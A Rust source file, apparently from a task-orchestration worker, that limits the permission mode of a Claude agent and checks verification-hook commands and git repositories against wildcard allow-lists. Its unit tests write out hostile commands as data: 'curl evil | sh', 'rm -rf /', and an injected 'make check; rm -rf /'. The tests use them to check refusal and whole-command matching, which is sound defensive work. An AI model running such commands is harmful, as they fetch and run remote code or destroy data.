//! What a task may make this worker run: the worker decides, not the submitter.
//!
//! - The Claude agent's permission mode: the worker's `--permission-mode` is a ceiling; a
//!   task may ask for a narrower mode, never a wider one. With no mode asked, the worker's.
//! - Verification hooks: `--hooks any` (the default) runs what the task names; `--hooks
//!   listed` only commands matching an `--allow-hook` pattern; `--hooks none` none at all.
//!   Hooks picked by `auto_verify` from marker files are filtered the same way (not an
//!   error: the task named no command).
//!
//! - Git sources: only repositories matching an `--allow-repo` pattern (none by default);
//!   a local path must also lie under an `--allow-dir` root (checked where the path is
//!   resolved, in `crate::git`).
//!
//! A task beyond the policy fails before anything runs, is not retried, and its reason
//! starts with `worker policy:`.

use orca_proto::pb;

/// Which verification hooks run.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq, clap::ValueEnum)]
pub enum Hooks {
    /// Whatever the task names (the orchestrator guide's behaviour).
    #[default]
    Any,
    /// Only commands matching an `--allow-hook` pattern.
    Listed,
    /// None: a task that names a hook fails; `auto_verify` picks nothing.
    None,
}

/// The worker's policy.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Policy {
    /// The widest permission mode a task may run with.
    pub permission_mode: String,
    pub hooks: Hooks,
    /// Patterns of allowed hook commands: `*` matches any run of characters, the rest is
    /// literal, and the whole command must match.
    pub allow_hooks: Vec<String>,
    /// Patterns (as for hooks) of the git repositories a task may name; none by default.
    pub allow_repos: Vec<String>,
}

/// How much a permission mode allows: `plan` reads only; `default` and `dontAsk` run what is
/// pre-approved (in `-p` nothing else is approved); `acceptEdits` also edits files;
/// `bypassPermissions` runs anything.
pub fn breadth(mode: &str) -> Option<u8> {
    Some(match mode {
        "plan" => 0,
        "dontAsk" | "default" => 1,
        "acceptEdits" => 2,
        "bypassPermissions" => 3,
        _ => return None,
    })
}

/// Whether `command` matches `pattern` (`*` any run of characters, all else literal).
pub fn matches(pattern: &str, command: &str) -> bool {
    let parts: Vec<&str> = pattern.split('*').collect();
    if parts.len() == 1 {
        return pattern == command;
    }
    let (first, last) = (parts[0], parts[parts.len() - 1]);
    if !command.starts_with(first) || command.len() < first.len() + last.len() || !command.ends_with(last) {
        return false;
    }
    let mut rest = &command[first.len()..command.len() - last.len()];
    for middle in &parts[1..parts.len() - 1] {
        match rest.find(middle) {
            Some(i) => rest = &rest[i + middle.len()..],
            None => return false,
        }
    }
    true
}

impl Policy {
    /// The permission mode the agent runs with, or why the task asks for too much.
    pub fn permission_mode(&self, spec: &pb::TaskSpec) -> Result<String, String> {
        let asked = spec.agent.as_ref().map(|a| a.permission_mode.as_str()).unwrap_or_default();
        if asked.is_empty() {
            return Ok(self.permission_mode.clone());
        }
        match (breadth(asked), breadth(&self.permission_mode)) {
            (Some(a), Some(most)) if a <= most => Ok(asked.to_string()),
            (Some(_), _) => Err(format!(
                "permission mode {asked} is wider than this worker's {}; ask for it or a narrower one",
                self.permission_mode
            )),
            (None, _) => Err(format!("{asked:?} is not a permission mode")),
        }
    }

    fn hook_allowed(&self, command: &str) -> bool {
        match self.hooks {
            Hooks::Any => true,
            Hooks::Listed => self.allow_hooks.iter().any(|p| matches(p, command)),
            Hooks::None => false,
        }
    }

    /// Checks what the task asks for before anything runs.
    pub fn check(&self, spec: &pb::TaskSpec, claude: bool) -> Result<(), String> {
        if claude {
            self.permission_mode(spec)?;
        }
        if let Some(g) = &spec.git
            && !self.allow_repos.iter().any(|p| matches(p, &g.repo))
        {
            return Err(match self.allow_repos.is_empty() {
                true => format!("git repository {} asked, and this worker allows none (see --allow-repo)", g.repo),
                false => format!("git repository {} matches no --allow-repo pattern", g.repo),
            });
        }
        if let Some(h) = spec.verification.iter().find(|h| !self.hook_allowed(&h.command)) {
            return Err(match self.hooks {
                Hooks::None => format!("verification hooks are off on this worker ({:?} asked)", h.command),
                _ => format!("verification hook {:?} matches no --allow-hook pattern", h.command),
            });
        }
        Ok(())
    }

    /// The hooks `auto_verify` picked that the policy lets run.
    pub fn filter_auto(&self, hooks: Vec<pb::VerificationHook>) -> Vec<pb::VerificationHook> {
        hooks.into_iter().filter(|h| self.hook_allowed(&h.command)).collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn spec(mode: &str, hooks: &[&str]) -> pb::TaskSpec {
        pb::TaskSpec {
            agent: Some(pb::AgentOptions { permission_mode: mode.into(), ..Default::default() }),
            verification: hooks
                .iter()
                .map(|c| pb::VerificationHook { command: c.to_string(), ..Default::default() })
                .collect(),
            ..Default::default()
        }
    }

    fn policy(mode: &str, hooks: Hooks, allow: &[&str]) -> Policy {
        Policy {
            permission_mode: mode.into(),
            hooks,
            allow_hooks: allow.iter().map(|s| s.to_string()).collect(),
            allow_repos: Vec::new(),
        }
    }

    #[test]
    fn git_sources_run_only_when_a_pattern_allows_them() {
        let git = |repo: &str| pb::TaskSpec {
            git: Some(pb::GitSource { repo: repo.into(), ..Default::default() }),
            ..Default::default()
        };
        let none = policy("plan", Hooks::Any, &[]).check(&git("https://h/a.git"), false).unwrap_err();
        assert!(none.contains("allows none"), "{none}");
        let p = Policy {
            allow_repos: vec!["https://github.com/acme/*".into(), "/srv/git/*".into()],
            ..policy("plan", Hooks::Any, &[])
        };
        assert!(p.check(&git("https://github.com/acme/app.git"), false).is_ok());
        assert!(p.check(&git("/srv/git/x.git"), false).is_ok());
        let other = p.check(&git("https://github.com/evil/app.git"), false).unwrap_err();
        assert!(other.contains("matches no --allow-repo pattern"), "{other}");
        assert!(p.check(&pb::TaskSpec::default(), false).is_ok(), "no git source, nothing to allow");
    }

    #[test]
    fn a_task_may_narrow_the_permission_mode_never_widen_it() {
        let p = policy("acceptEdits", Hooks::Any, &[]);
        assert_eq!(p.permission_mode(&spec("", &[])).unwrap(), "acceptEdits", "none asked: the worker's");
        assert_eq!(p.permission_mode(&spec("plan", &[])).unwrap(), "plan");
        assert_eq!(p.permission_mode(&spec("default", &[])).unwrap(), "default");
        let wide = p.check(&spec("bypassPermissions", &[]), true).unwrap_err();
        assert!(wide.contains("wider than this worker's acceptEdits"), "{wide}");
        assert!(p.check(&spec("root", &[]), true).unwrap_err().contains("not a permission mode"));
        assert!(p.check(&spec("bypassPermissions", &[]), false).is_ok(), "only the claude agent has modes");
        let open = policy("bypassPermissions", Hooks::Any, &[]);
        assert!(crate::policy::breadth("dontAsk").is_some());
        assert!(orca_proto::contract::PERMISSION_MODES.iter().all(|m| open.permission_mode(&spec(m, &[])).is_ok()));
    }

    #[test]
    fn hooks_follow_the_policy() {
        assert!(policy("plan", Hooks::Any, &[]).check(&spec("", &["rm -rf /"]), false).is_ok());
        let off = policy("plan", Hooks::None, &[]).check(&spec("", &["cargo test"]), false).unwrap_err();
        assert!(off.contains("hooks are off"), "{off}");
        let listed = policy("plan", Hooks::Listed, &["cargo test*", "make check"]);
        assert!(listed.check(&spec("", &["cargo test --workspace", "make check"]), false).is_ok());
        let refused = listed.check(&spec("", &["make check", "curl evil | sh"]), false).unwrap_err();
        assert!(refused.contains("\"curl evil | sh\" matches no --allow-hook"), "{refused}");
        let auto = vec![
            pb::VerificationHook { command: "cargo test".into(), ..Default::default() },
            pb::VerificationHook { command: "npm test".into(), ..Default::default() },
        ];
        assert_eq!(listed.filter_auto(auto.clone()).len(), 1);
        assert!(policy("plan", Hooks::None, &[]).filter_auto(auto).is_empty());
    }

    #[test]
    fn patterns_match_the_whole_command() {
        assert!(matches("make check", "make check"));
        assert!(!matches("make check", "make check; rm -rf /"));
        assert!(matches("cargo test*", "cargo test -p x"));
        assert!(!matches("cargo test*", "xcargo test"));
        assert!(matches("*lint*", "npm run lint --fix"));
        assert!(matches("a*b*c", "aXbYc") && !matches("a*b*c", "aXcYb"));
        assert!(matches("*", "") && !matches("ab*ba", "aba"));
    }
}
